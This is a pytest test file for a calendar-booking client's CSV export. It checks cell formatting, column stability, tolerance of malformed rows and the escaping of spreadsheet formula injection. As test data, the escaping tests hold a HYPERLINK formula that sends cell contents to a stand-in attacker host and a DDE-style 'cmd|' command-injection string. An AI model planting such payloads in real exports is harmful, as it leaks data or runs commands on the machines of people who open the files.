"""CSV rows of a model: the content of its cells, and which content is escaped."""

from __future__ import annotations

import csv
import random
from contextlib import suppress
from datetime import date, datetime
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import msgspec
import pytest
from hypothesis import given, strategies as st
from msgspec import Raw

from calcom_async import CalcomError, InvalidRequestError, models
from calcom_async.decoding import decode
from calcom_async.export.rows import BOOKING_COLUMNS, cells, columns_of, escape_formula
from calcom_async.export.sinks import open_sink
from calcom_async.models.bookings import Booking

WIRE: dict[str, Any] = {
    "id": 7,
    "uid": "abc",
    "title": "Talk",
    "hosts": [{"id": 1, "name": "Ana", "email": "ana@cal.test", "username": "ana", "timeZone": "Europe/Lisbon"}],
    "status": "accepted",
    "start": "2026-05-06T12:00:00.000+02:00",
    "end": "2026-05-06T12:30:00.000+02:00",
    "duration": 30,
    "eventTypeId": 3,
    "eventType": {"id": 3, "slug": "thirty"},
    "absentHost": False,
    "createdAt": "2026-05-01T08:00:00.123Z",
    "updatedAt": None,
    "attendees": [
        {"name": "Ada", "email": "ada@x.test", "timeZone": "Europe/Rome", "absent": False},
        {"name": "Bob", "email": "bob@x.test", "timeZone": "Asia/Tokyo", "absent": False},
    ],
    "guests": ["g1@x.test", "g2@x.test"],
    "metadata": {"crm": "42"},
    "bookingFieldsResponses": {"email": "ada@x.test", "ü": [1, None]},
}


def booking_row(**changes: Any) -> dict[str, str]:
    wire = {name: value for name, value in (WIRE | changes).items() if value is not ...}
    return row_of(Booking, wire)


def row_of(model: type[msgspec.Struct], wire: dict[str, Any]) -> dict[str, str]:
    columns = columns_of(model)
    return dict(zip(columns, cells(columns, decode(model, msgspec.json.encode(wire))), strict=True))


@pytest.mark.parametrize(
    ("column", "cell"),
    [
        ("id", "7"),
        ("start", "2026-05-06T10:00:00.000Z"),
        ("created_at", "2026-05-01T08:00:00.123Z"),
        ("updated_at", ""),
        ("duration_minutes", "30"),
        ("event_type_slug", "thirty"),
        ("host_emails", "ana@cal.test"),
        ("attendee_names", "Ada; Bob"),
        ("attendee_emails", "ada@x.test; bob@x.test"),
        ("attendee_time_zones", "Europe/Rome; Asia/Tokyo"),
        ("guests", "g1@x.test; g2@x.test"),
        ("absent_host", "false"),
        ("rating", ""),
        ("metadata", '{"crm":"42"}'),
        ("booking_fields_responses", '{"email":"ada@x.test","ü":[1,null]}'),
    ],
)
def test_a_cell(column: str, cell: str) -> None:
    """Times are in UTC, several people are joined, nested values are JSON, and null is an empty cell."""
    assert booking_row()[column] == cell


@pytest.mark.parametrize(
    "changes",
    [
        {"hosts": ..., "attendees": ...},
        {"hosts": None, "attendees": None, "guests": None},
        {"hosts": [None], "attendees": [None, {}], "guests": [None]},
        {"eventType": None, "eventTypeId": None, "start": None},
        {"status": "a status of tomorrow", "news": {"of": "tomorrow"}},
    ],
)
def test_missing_and_new_fields_do_not_change_the_columns(changes: dict[str, Any]) -> None:
    """Whatever is missing, null or new, a row has every column and its other cells."""
    csv_row = booking_row(**changes)
    assert list(csv_row) == list(BOOKING_COLUMNS)
    assert csv_row["uid"] == "abc"


SIGNS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66"]
BLANKS = [" =", "\t=", "\r\n=", "\xa0@", "\u3000\uff1d", "\ufeff=", "\u200b\u202e-", "\x00+", "\ufeff" * 99 + "="]


@pytest.mark.parametrize("first", [*SIGNS, *BLANKS])
def test_formulas_are_escaped(first: str) -> None:
    """A text that a spreadsheet would run gets an apostrophe, in each column that others can write to."""
    formula = f'{first}HYPERLINK("https://attacker.test?"&A1)'
    csv_row = booking_row(
        title=formula,
        description=formula,
        location=formula,
        cancellationReason=formula,
        reschedulingReason=formula,
        guests=[formula],
        attendees=[{"name": formula, "email": formula, "timeZone": formula, "absent": False}],
        status=formula,
    )
    columns = [name for name, cell in csv_row.items() if "HYPERLINK" in cell]
    assert len(columns) == 10
    assert all(csv_row[name] == "'" + formula for name in columns)


PHONES = [
    "+39 06 1234567", "+1 (555) 010-9999", "+44.20.7946.0958", "+4930/123456", "+1-555-010-9999 ext. 12",
    "+1 555 010 9999 x4", "\uff0b39 02 1234567", " +39061234567", "-5", "-1,5", "- 3.2", "-",
]  # fmt: skip
WORDS = ["a=b", "mail@x.test", "1+1", "(=1)", "\tTab", "\nLine", " x", "\ufeff", "", "'=1", "#REF", "|cmd", "\u2212x"]


@pytest.mark.parametrize("text", [*PHONES, *WORDS])
def test_other_texts_are_not_changed(text: str) -> None:
    """Phone numbers, numbers and texts that begin no formula are written unchanged."""
    assert escape_formula(text) == text
    assert booking_row(location=text)["location"] == text


@pytest.mark.parametrize("text", ["+1+A1", "-2+3+cmd|' /C calc'!A0", "+SUM(1)", "-x", "+39 call me", "+" + "1" * 99])
def test_a_formula_after_a_sign_is_no_phone_number(text: str) -> None:
    """A text that names a cell, a function or a program is escaped, and so is a long row of digits."""
    assert escape_formula(text) == "'" + text


@given(st.text(st.sampled_from("=+-@\uff1d\ufeff \t\x001A(x#.")))
def test_an_escaped_text_begins_no_formula(text: str) -> None:
    """Any text gets at most one apostrophe. Without one it is no formula, or has only digits and marks."""
    safe = escape_formula(text)
    assert safe in {text, "'" + text}
    shown = safe.lstrip(" \t\x00\ufeff")
    assert not shown.startswith(("=", "@", "\uff1d"))
    if shown.startswith(("+", "-")):
        assert not set("=@A(x") & set(shown) - set("x(")


@pytest.mark.parametrize("options", [{"escape": False}, {"bom": True}, {"escape": False, "bom": True}], ids=str)
def test_csv_without_escapes_or_with_a_byte_order_mark(options: dict[str, bool], tmp_path: Path) -> None:
    """An incremental update keeps both options."""
    for title in ("=1", "=2"):
        with open_sink(tmp_path / "a.csv", **options) as sink:
            sink.begin()
            sink.write([Raw(msgspec.json.encode(WIRE | {"title": title, "uid": title}))])
            sink.finish(upsert=True)
    data = (tmp_path / "a.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbfid," if options.get("bom") else b"id,")
    assert data.count(b"\xef\xbb\xbf") == options.get("bom", False)
    escape = "" if options.get("escape") is False else "'"
    assert [line.split(",")[3] for line in data.decode().splitlines()[1:]] == [f"{escape}=1", f"{escape}=2"]


@pytest.mark.parametrize("name", ["a.jsonl", "a.parquet"])
@pytest.mark.parametrize("options", [{"escape": False}, {"bom": True}], ids=str)
def test_options_of_csv_are_for_csv(name: str, options: dict[str, bool], tmp_path: Path) -> None:
    """Other formats have no cells to escape and no byte order mark."""
    with pytest.raises(InvalidRequestError, match="options of CSV"):
        open_sink(tmp_path / name, **options)


def test_a_time_that_utc_cannot_express_is_written_unchanged() -> None:
    """A time at the edge of the calendar costs neither its row nor the export."""
    assert booking_row(end="0001-01-01T00:00:00+14:00")["end"] == "0001-01-01T00:00:00.000+14:00"
    assert booking_row(end="9999-12-31T23:59:59-14:00")["end"] == "9999-12-31T23:59:59.000-14:00"


@pytest.mark.slow
@given(st.text(alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\0")))
def test_a_csv_reader_returns_any_text(text: str) -> None:
    """Quotes, commas, line ends and all of Unicode are read by csv.reader as they were."""
    with TemporaryDirectory() as folder:
        with open_sink(Path(folder, "a.csv")) as sink:
            sink.begin()
            sink.write([Raw(msgspec.json.encode(WIRE | {"title": text}))])
            sink.finish()
        with sink.path.open(encoding="utf-8", newline="") as lines:
            _, csv_row = csv.reader(lines)
    assert dict(zip(BOOKING_COLUMNS, csv_row, strict=True))["title"] == escape_formula(text)


ODD: list[Any] = [
    None, 0, -1, 10**30, 1.5, 1e308, "", "x", "\0", "=1", [], {}, [None], [[]], {"a": {}}, True, "a\r\nb", '"', "5",
    [5],     "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "2026-01-01T00:00:00", ["a", None, 5, {}],
]  # fmt: skip
BROKEN = [b"\\ud800", b"\xff", b"\n", b"\r\n", b"[" * 3000, b"1e999", b"NaN"]


def mutate(rng: random.Random, value: Any) -> Any:
    """Return the value with an odd part in one position."""
    if isinstance(value, dict) and value and rng.random() < 0.7:
        name = rng.choice([*value])
        return {**value, name: mutate(rng, value[name])}
    if isinstance(value, list) and value and rng.random() < 0.7:
        index = rng.randrange(len(value))
        return [*value[:index], mutate(rng, value[index]), *value[index + 1 :]]
    return rng.choice(ODD)


@pytest.mark.slow
@pytest.mark.parametrize(("name", "count"), [("a.csv", 600), ("a.jsonl", 600), ("a.parquet", 60)])
def test_an_odd_row_is_written_or_an_error(name: str, count: int, tmp_path: Path) -> None:
    """Any row is in the file, or the error is one of the package."""
    rng = random.Random(name)
    for number in range(count):
        row: Any = WIRE
        for _ in range(rng.randrange(1, 4)):
            row = mutate(rng, row)
        data = msgspec.json.encode(row)
        if rng.random() < 0.2:
            index = rng.randrange(len(data))
            data = data[:index] + rng.choice(BROKEN) + data[index:]
        with suppress(CalcomError), open_sink(tmp_path / f"{number}-{name}") as sink:
            sink.begin()
            sink.write([Raw(data)])
            sink.finish(upsert=number % 2 == 0)


# --- other models -------------------------------------------------------------------------------------------------


class EveryKind(models.Team, frozen=True, kw_only=True):
    """A model with a value of every kind."""

    count: int
    share: float
    day: date
    seen_at: datetime
    tags: list[str]
    anything: Any = None
    people: list[models.BookingHost] | None = None


EVERY_KIND: dict[str, Any] = {
    "id": 3, "name": "=A1", "count": -5, "share": 0.5, "day": "2026-05-06", "seenAt": "2026-05-06T12:00:00+02:00",
    "tags": ["=x", "y"], "metadata": {"a": {"b": [1]}}, "people": [{"id": 1, "displayEmail": "a@cal.test"}],
}  # fmt: skip


def test_other_models_have_their_fields_as_columns() -> None:
    """The columns are the fields in their order, by their Python names."""
    assert list(columns_of(models.OutOfOfficeEntry)) == [
        "id", "uuid", "user_id", "to_user_id", "start", "end", "notes", "reason",
    ]  # fmt: skip
    assert columns_of(Booking) is BOOKING_COLUMNS


@pytest.mark.parametrize(
    ("column", "cell"),
    [
        ("id", "3"),
        ("name", "'=A1"),
        ("slug", ""),
        ("is_organization", "false"),
        ("count", "-5"),
        ("share", "0.5"),
        ("day", "2026-05-06"),
        ("seen_at", "2026-05-06T10:00:00.000Z"),
        ("tags", '["=x","y"]'),
        ("metadata", '{"a":{"b":[1]}}'),
        ("anything", ""),
    ],
)
def test_a_cell_of_another_model(column: str, cell: str) -> None:
    """Plain values are unchanged, times are in UTC, formulas are escaped, and nested values are JSON."""
    assert row_of(EveryKind, EVERY_KIND)[column] == cell


def test_nested_values_are_json_with_the_names_of_the_api() -> None:
    """A list of structs can be read back as the API returned it."""
    (person,) = msgspec.json.decode(row_of(EveryKind, EVERY_KIND)["people"])
    assert person["displayEmail"] == "a@cal.test"


@pytest.mark.parametrize("anything", ["=1+1", ["=1+1"], {"=1+1": 1}])
def test_a_nested_value_begins_no_formula(anything: Any) -> None:
    """JSON in a cell begins with a bracket, and a text of any type is escaped like others."""
    assert row_of(EveryKind, EVERY_KIND | {"anything": anything})["anything"][0] in "'[{"


def test_a_time_without_zone_is_utc() -> None:
    """The time zone of the machine does not matter."""
    assert row_of(EveryKind, EVERY_KIND | {"seenAt": "2026-05-06T12:00:00"})["seen_at"] == "2026-05-06T12:00:00.000Z"
